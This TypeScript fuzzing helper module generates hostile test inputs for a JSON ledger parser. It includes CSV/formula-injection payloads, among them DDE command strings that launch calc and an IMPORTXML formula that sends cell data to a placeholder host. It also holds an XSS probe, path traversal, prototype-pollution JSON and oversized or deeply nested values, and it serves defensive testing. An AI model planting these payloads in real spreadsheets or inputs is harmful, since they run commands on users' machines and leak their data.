/**
 * Hostile values shared by the fuzzers: odd strings (lone surrogates, BOMs, control characters,
 * formula payloads, prototype keys), junk of every JSON type and a few that JSON has not (undefined,
 * -0, big numbers), deep nesting, and huge strings and arrays (built once, reused by reference so a
 * run stays cheap).
 */
import * as fc from 'fast-check';

/** Strings a spreadsheet would evaluate (OWASP CSV injection list, plus DDE and tab/CR starts). */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://x","y")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  '＝1+1', // full-width equals: not evaluated by Excel, left alone
  '"=1+1"',
  ' =1+1',
  '=',
  '+',
  '-',
  '@',
] as const;

export const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
] as const;

/** One UTF-16 code unit, lone surrogates included. */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((n) => String.fromCharCode(n));

const specialPiece = fc.constantFrom(
  '\uFEFF',
  '\u0000',
  '\r\n',
  '\n',
  '\r',
  '\t',
  '"',
  "'",
  ',',
  '\\',
  '\u2028',
  '\u2029',
  '\u200B',
  '\uFFFD',
  '\uD800',
  '\uDC00',
  '\uDBFF\uDFFF',
  '😀',
  '👨‍👩‍👧',
  '１３８００１３８０００',
  '<script>alert(1)</script>',
  '${x}',
  '%s',
  '../..',
  'null',
  'true',
  ...PROTO_KEYS,
  ...FORMULA_PAYLOADS,
);

/** Short strings mixing ordinary text, Chinese, odd code units and special pieces. */
export const hostileString: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.string({ maxLength: 6 }) },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 4 }) },
      { weight: 2, arbitrary: fc.constantFrom('小林', '杂货铺', '旗舰店', '矩阵号', '逛逛号') },
      { weight: 2, arbitrary: fc.string({ unit: codeUnit, maxLength: 4 }) },
      { weight: 1, arbitrary: loneSurrogate },
      { weight: 3, arbitrary: specialPiece },
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(''));

const HUGE = 'x'.repeat(1 << 20);
const HUGE_CJK = '光'.repeat(300_000);
/** Strings far over every field limit (shared instances: a run does not allocate megabytes). */
export const hugeString = fc.constantFrom(
  HUGE,
  HUGE_CJK,
  `=HYPERLINK("http://x","${'y'.repeat(100_000)}")`,
  '\uD800'.repeat(70_000),
  '1'.repeat(65),
  'a'.repeat(101),
  'a'.repeat(2001),
);

/** An array or object nested `depth` deep around `inner` (built iteratively: no recursion). */
export function nest(depth: number, inner: unknown = 1, kind: 'array' | 'object' = 'array'): unknown {
  let v = inner;
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v };
  return v;
}
/** The JSON text of `nest` (built as a string: safe for depths JSON.stringify cannot handle). */
export function nestText(depth: number, inner = '1', kind: 'array' | 'object' = 'array'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}${inner}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}`;
}

/** Nested 1,000 deep: fine for JSON.stringify (deeper values are spliced in as text, see `DEEP`). */
const DEEP_ARRAY = nest(1_000);
const DEEP_OBJECT = nest(1_000, 'x', 'object');

/**
 * Placeholders that `toJsonText` replaces by JSON nested far deeper than JSON.stringify can write
 * (100,000 arrays; 20,000 objects) but JSON.parse reads fine.
 */
export const DEEP = { array: '@@fuzz-deep-array@@', object: '@@fuzz-deep-object@@' } as const;
const DEEP_TEXT = { array: nestText(100_000), object: nestText(20_000, '1', 'object') };

/** JSON.stringify, with the `DEEP` placeholders replaced by deeply nested JSON. */
export function toJsonText(value: unknown, indent?: number): string {
  return (JSON.stringify(value, null, indent) ?? 'null')
    .replaceAll(JSON.stringify(DEEP.array), DEEP_TEXT.array)
    .replaceAll(JSON.stringify(DEEP.object), DEEP_TEXT.object);
}
const BIG_ARRAY = Array.from({ length: 6_000 }, (_, i) => i);
const BIG_OBJECT_ARRAY = Array.from({ length: 6_000 }, () => ({}));

/** Numbers JSON and schemas trip over. */
export const oddNumber = fc.constantFrom(
  0,
  -0,
  -1,
  1.5,
  Number.MAX_SAFE_INTEGER + 1,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  1e21,
  2 ** 31,
  -(2 ** 31),
);

/** JSON-ish junk, deep nesting and huge values, plus undefined and prototype-keyed objects. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 30, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 15, arbitrary: hostileString },
  { weight: 10, arbitrary: oddNumber },
  { weight: 10, arbitrary: fc.constantFrom(null, undefined, true, false, '', [], {}) },
  {
    weight: 10,
    arbitrary: fc
      .tuple(fc.constantFrom(...PROTO_KEYS), fc.jsonValue({ maxDepth: 2 }))
      .map(([k, v]) => JSON.parse(`{${JSON.stringify(k)}:${JSON.stringify(v) ?? 'null'}}`) as unknown),
  },
  { weight: 5, arbitrary: hugeString },
  { weight: 4, arbitrary: fc.constantFrom<unknown>(DEEP_ARRAY, DEEP_OBJECT, BIG_ARRAY) },
  // 6,000 empty objects: slow to reject (every row has a dozen issues), so rare.
  { weight: 1, arbitrary: fc.constant<unknown>(BIG_OBJECT_ARRAY) },
);

/** `junk`, plus the `DEEP` placeholders (for values that are turned into text by `toJsonText`). */
export const junkOrDeep: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 12, arbitrary: junk },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(DEEP.array, DEEP.object) },
);

/** Text shaped like a broken file: junk JSON, truncated JSON, BOMs, non-JSON. */
export const junkText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.json({ maxDepth: 3 }) },
  { weight: 3, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.string({ unit: codeUnit, maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc.json({ maxDepth: 3 }).chain((j) => fc.nat(j.length).map((n) => j.slice(0, n))),
  },
  { weight: 1, arbitrary: fc.json().map((j) => `\uFEFF\uFEFF${j}`) },
  { weight: 1, arbitrary: fc.json().map((j) => `${j}\uFEFF`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      '\uFEFF',
      'null',
      '[]',
      '{}',
      '"guanghe-ledger"',
      '{"format":"guanghe-ledger"',
      nestText(100_000),
      nestText(20_000, '1', 'object'),
      `{"__proto__":{"polluted":true},"format":"guanghe-ledger","version":1}`,
      `{"constructor":{"prototype":{"polluted":true}},"format":"guanghe-ledger"}`,
      HUGE,
    ),
  },
);
